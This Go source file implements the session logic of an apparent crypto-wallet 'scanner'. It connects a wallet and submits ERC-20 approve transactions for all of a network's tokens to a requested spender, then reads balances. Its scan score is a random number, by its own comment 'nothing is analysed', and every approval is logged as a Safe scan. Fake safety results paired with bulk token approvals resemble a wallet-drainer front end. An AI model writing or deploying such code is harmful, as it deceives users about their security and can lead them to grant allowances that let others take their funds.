// Package session owns the scanner's mutable UI state and runs the wallet
// flows that change it: connect, disconnect and a user-confirmed approval.
package session

import (
	"context"
	"fmt"
	"math/big"
	"math/rand/v2"
	"strings"
	"sync"
	"time"

	"safescan/pkg/erc20"
	"safescan/pkg/errno"
	"safescan/pkg/logger"
	"safescan/pkg/monitor"
	"safescan/pkg/networks"
	"safescan/pkg/provider"

	"github.com/ethereum/go-ethereum/common"
	"github.com/google/uuid"
	"go.uber.org/zap"
)

// Scorer produces the score shown next to a scan record. It is a display
// value only; nothing is analysed.
type Scorer func() int

func randomScore() int {
	return rand.IntN(100)
}

type Option func(*Session)

func WithScorer(f Scorer) Option {
	return func(s *Session) { s.scorer = f }
}

func WithClock(now func() time.Time) Option {
	return func(s *Session) { s.now = now }
}

// WithPollInterval sets how often receipts are polled while waiting for confirmation
func WithPollInterval(d time.Duration) Option {
	return func(s *Session) { s.pollInterval = d }
}

type Session struct {
	provider     provider.Provider
	scorer       Scorer
	now          func() time.Time
	pollInterval time.Duration

	mu        sync.Mutex
	account   *common.Address
	status    string
	stats     Stats
	recent    []ScanRecord
	approving bool
}

// New creates a session. p may be nil when no wallet provider is available.
func New(p provider.Provider, seed Stats, opts ...Option) *Session {
	s := &Session{
		provider:     p,
		scorer:       randomScore,
		now:          time.Now,
		pollInterval: 2 * time.Second,
		status:       StatusNotConnected,
		stats:        seed.clamp(),
	}
	for _, opt := range opts {
		opt(s)
	}
	monitor.SetStats(s.stats.Scanned, s.stats.Compromised, s.stats.Safe)
	return s
}

// Connect asks the provider for account access and keeps the first account
func (s *Session) Connect(ctx context.Context) (common.Address, error) {
	if s.provider == nil {
		s.connectFailed()
		logger.Warn("wallet connect failed: no provider")
		return common.Address{}, errno.ErrProviderUnavailable
	}

	accounts, err := s.provider.RequestAccounts(ctx)
	if err == nil && len(accounts) == 0 {
		err = fmt.Errorf("provider returned no accounts")
	}
	if err != nil {
		s.connectFailed()
		logger.Warn("wallet connect failed", zap.Error(err))
		return common.Address{}, fmt.Errorf("%w: %w", errno.ErrConnectionFailed, err)
	}

	account := accounts[0]
	s.mu.Lock()
	s.account = &account
	s.status = StatusConnected
	s.mu.Unlock()

	monitor.ObserveConnect("success")
	logger.Info("wallet connected", zap.String("account", account.Hex()))
	return account, nil
}

func (s *Session) connectFailed() {
	s.mu.Lock()
	s.account = nil
	s.status = StatusConnectionFailed
	s.mu.Unlock()
	monitor.ObserveConnect("failed")
}

// Disconnect forgets the account locally. The wallet is not contacted.
func (s *Session) Disconnect() {
	s.mu.Lock()
	s.account = nil
	s.status = StatusDisconnected
	s.mu.Unlock()
	logger.Info("wallet disconnected")
}

// Preview validates req and returns what Approve would submit
func (s *Session) Preview(req ApprovalRequest) (*ApprovalPlan, error) {
	return Plan(req)
}

// Approve runs the approval flow for req on behalf of the connected account.
// Every check that can fail without the network runs before the first
// provider call.
func (s *Session) Approve(ctx context.Context, req ApprovalRequest) ([]ApprovalResult, error) {
	s.mu.Lock()
	if s.account == nil {
		s.mu.Unlock()
		return nil, errno.ErrNotConnected
	}
	if !req.Confirm {
		s.mu.Unlock()
		return nil, errno.ErrConfirmRequired
	}
	if s.approving {
		s.mu.Unlock()
		return nil, errno.ErrApprovalInProgress
	}
	plan, err := Plan(req)
	if err != nil {
		s.mu.Unlock()
		return nil, err
	}
	if s.provider == nil {
		s.mu.Unlock()
		return nil, errno.ErrProviderUnavailable
	}
	account := *s.account
	s.approving = true
	s.status = fmt.Sprintf("Approval pending on %s", strings.ToUpper(plan.Network))
	s.mu.Unlock()

	defer func() {
		s.mu.Lock()
		s.approving = false
		s.mu.Unlock()
	}()

	start := s.now()
	results, err := s.runApproval(ctx, account, plan)
	if err != nil {
		s.mu.Lock()
		s.status = StatusApprovalFailed
		s.mu.Unlock()
		monitor.ObserveApproval(plan.Network, "failed")
		logger.Error("approval flow failed",
			zap.String("network", plan.Network),
			zap.String("account", account.Hex()),
			zap.Error(err))
		return results, fmt.Errorf("%w: %w", errno.ErrApprovalFailed, err)
	}

	verb := "Approved"
	if plan.Revoke {
		verb = "Revoked"
	}
	rec := ScanRecord{
		ID:        uuid.NewString(),
		Address:   account,
		Timestamp: s.now(),
		Status:    ScanSafe,
		Score:     s.scorer(),
	}

	s.mu.Lock()
	s.status = fmt.Sprintf("%s %s on %s", verb, plan.symbols(), strings.ToUpper(plan.Network))
	s.recent = prependScan(s.recent, rec)
	s.stats.Scanned++
	s.stats.Safe++
	stats := s.stats
	s.mu.Unlock()

	monitor.ObserveApproval(plan.Network, "success")
	monitor.SetStats(stats.Scanned, stats.Compromised, stats.Safe)
	logger.Info("approval flow finished",
		zap.String("network", plan.Network),
		zap.Int("tokens", len(results)),
		zap.Duration("took", s.now().Sub(start)))
	return results, nil
}

type preparedApproval struct {
	token    networks.Token
	decimals uint8
	raw      *big.Int
}

func (s *Session) runApproval(ctx context.Context, account common.Address, plan *ApprovalPlan) ([]ApprovalResult, error) {
	if err := s.provider.SwitchChain(ctx, plan.network.ChainID); err != nil {
		return nil, fmt.Errorf("switch to %s (%s): %w", plan.Network, plan.ChainID, err)
	}

	// Convert the amount for every token before sending anything so a token
	// that cannot represent it does not leave a half-applied approval behind.
	prepared := make([]preparedApproval, 0, len(plan.network.Tokens))
	for _, tok := range plan.network.Tokens {
		decimals, err := s.decimals(ctx, tok.Address)
		if err != nil {
			return nil, fmt.Errorf("%s decimals: %w", tok.Symbol, err)
		}
		raw, err := erc20.ParseUnits(plan.amount.String(), decimals)
		if err != nil {
			return nil, fmt.Errorf("%s amount: %w", tok.Symbol, err)
		}
		prepared = append(prepared, preparedApproval{token: tok, decimals: decimals, raw: raw})
	}

	results := make([]ApprovalResult, 0, len(prepared))
	for _, p := range prepared {
		res, err := s.approveToken(ctx, account, plan.spender, p)
		if err != nil {
			return results, fmt.Errorf("%s: %w", p.token.Symbol, err)
		}
		results = append(results, res)
	}
	return results, nil
}

func (s *Session) approveToken(ctx context.Context, account, spender common.Address, p preparedApproval) (ApprovalResult, error) {
	data, err := erc20.PackApprove(spender, p.raw)
	if err != nil {
		return ApprovalResult{}, fmt.Errorf("pack approve: %w", err)
	}

	to := p.token.Address
	hash, err := s.provider.SendTransaction(ctx, provider.TxArgs{From: account, To: &to, Data: data})
	if err != nil {
		return ApprovalResult{}, fmt.Errorf("send approve: %w", err)
	}
	if _, err := provider.WaitMined(ctx, s.provider, hash, s.pollInterval); err != nil {
		return ApprovalResult{}, fmt.Errorf("wait approve: %w", err)
	}

	balance, err := s.balanceOf(ctx, p.token.Address, account)
	if err != nil {
		return ApprovalResult{}, fmt.Errorf("balance: %w", err)
	}

	res := ApprovalResult{
		Symbol:  p.token.Symbol,
		TxHash:  hash,
		Balance: erc20.FormatUnits(balance, p.decimals),
	}
	logger.Info("token approval confirmed",
		zap.String("token", res.Symbol),
		zap.String("tx", hash.Hex()),
		zap.String("balance", res.Balance))
	return res, nil
}

func (s *Session) decimals(ctx context.Context, token common.Address) (uint8, error) {
	data, err := erc20.PackDecimals()
	if err != nil {
		return 0, err
	}
	out, err := s.provider.Call(ctx, token, data)
	if err != nil {
		return 0, err
	}
	return erc20.UnpackDecimals(out)
}

func (s *Session) balanceOf(ctx context.Context, token, account common.Address) (*big.Int, error) {
	data, err := erc20.PackBalanceOf(account)
	if err != nil {
		return nil, err
	}
	out, err := s.provider.Call(ctx, token, data)
	if err != nil {
		return nil, err
	}
	return erc20.UnpackUint256("balanceOf", out)
}

// Snapshot returns a copy of the current state
func (s *Session) Snapshot() Snapshot {
	s.mu.Lock()
	defer s.mu.Unlock()

	snap := Snapshot{
		Connected:   s.account != nil,
		Status:      s.status,
		Stats:       s.stats,
		RecentScans: append([]ScanRecord(nil), s.recent...),
	}
	if s.account != nil {
		acct := *s.account
		snap.Account = &acct
	}
	if snap.RecentScans == nil {
		snap.RecentScans = []ScanRecord{}
	}
	return snap
}
